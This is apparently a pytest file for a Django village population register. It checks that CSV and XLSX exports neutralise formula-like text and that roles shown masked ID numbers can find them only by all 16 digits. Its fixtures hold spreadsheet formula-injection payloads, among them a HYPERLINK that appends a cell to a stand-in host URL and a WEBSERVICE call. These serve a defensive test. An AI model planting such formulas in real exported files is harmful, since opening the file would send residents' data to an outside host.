"""Export safety and what the roles that only see masked numbers can reach."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django_scopes import scopes_disabled

from balai.penduduk.models import ImporPenduduk, Penduduk
from balai.penduduk.opensid import KOLOM

from .factories import make_keluarga, make_penduduk

FORMULA = '=HYPERLINK("http://x.example/?"&B2,"klik")'


@pytest.fixture
def client_a(desa_a, operator_a, client_for):
    return client_for(desa_a, operator_a)


@pytest.fixture
def warga_formula(desa_a):
    with scopes_disabled():
        return make_penduduk(
            desa_a,
            nama=FORMULA,
            tempat_lahir="+62 Purbalingga",
            suku="@SUM(A1)",
            alamat_sekarang="-1+2",
            lat="-7.39123456",
            lng="109.36123456",
            keluarga=make_keluarga(desa_a, alamat='=WEBSERVICE("http://x.example")'),
        )


def _ekspor(client, fmt):
    response = client.post("/admin-desa/penduduk/ekspor/", {"format": fmt, "status_dasar": "0"})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_xlsx_export_writes_formula_like_text_as_text_and_round_trips(desa_a, client_a, warga_formula):
    from openpyxl import load_workbook
    from python_calamine import CalamineWorkbook

    content = _ekspor(client_a, "xlsx")
    ws = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in ws[1]]
    cells = {name: cell for name, cell in zip(header, ws[2], strict=True)}
    assert cells["nama"].data_type == "s" and cells["nama"].value == FORMULA
    assert cells["alamat"].data_type == "s" and cells["alamat"].value.startswith("=WEBSERVICE")
    # What the importer reads (python-calamine): the text as it was, no apostrophe to strip.
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["nama"] == FORMULA and row["tempatlahir"] == "+62 Purbalingga" and row["suku"] == "@SUM(A1)"

    # Export -> import keeps the values (the import updates the same resident).
    with scopes_disabled():
        Penduduk.objects.filter(pk=warga_formula.pk).update(nama="X", suku="")
    client_a.post(
        "/admin-desa/penduduk/impor/",
        {"berkas": SimpleUploadedFile("ekspor.xlsx", content), "mode": "semua"},
    )
    with scopes_disabled():
        job = ImporPenduduk.objects.latest("dibuat")
        assert job.status == "selesai" and job.jumlah_galat == 0, job.galat
        p = Penduduk.objects.get(pk=warga_formula.pk)
    assert (p.nama, p.suku, p.tempat_lahir) == (FORMULA, "@SUM(A1)", "+62 Purbalingga")


def test_csv_export_quotes_formula_like_text_but_not_numbers(client_a, warga_formula):
    content = _ekspor(client_a, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0] == KOLOM
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["nama"] == "'" + FORMULA
    assert row["tempatlahir"] == "'+62 Purbalingga" and row["suku"] == "'@SUM(A1)"
    assert row["alamat"].startswith("'=WEBSERVICE")
    assert row["lat"] == "-7.39123456", "numbers are not quoted"
    assert row["dusun"] == "-", "OpenSID's empty marker stays"


@pytest.fixture
def perangkat_a(desa_a, make_user):
    from balai.akun.models import Peran

    return make_user(Peran.PERANGKAT_DESA, desa=desa_a)


def test_masked_roles_find_numbers_only_by_all_16_digits(desa_a, client_a, perangkat_a, client_for):
    with scopes_disabled():
        k = make_keluarga(desa_a)
        p = make_penduduk(desa_a, nama="Sutrisno Wibowo", keluarga=k)
        make_penduduk(desa_a, nama="Warga Lain")
    client = client_for(desa_a, perangkat_a)

    def daftar(c, q, url="/admin-desa/penduduk/"):
        return c.post(url, {"q": q}).content.decode()

    for prefix in (p.nik[:15], p.nik[:4]):
        assert "Sutrisno Wibowo" not in daftar(client, prefix)
    assert "Sutrisno Wibowo" in daftar(client, p.nik)
    assert "Sutrisno Wibowo" in daftar(client, "sutrisno")
    kk_url = "/admin-desa/penduduk/keluarga/"
    assert "Sutrisno Wibowo" not in daftar(client, k.no_kk[:15], kk_url)
    assert "Sutrisno Wibowo" in daftar(client, k.no_kk, kk_url)
    # The register keepers (full numbers on screen anyway) keep the prefix search.
    assert "Sutrisno Wibowo" in daftar(client_a, p.nik[:15])
    assert "Sutrisno Wibowo" in daftar(client_a, k.no_kk[:15], kk_url)
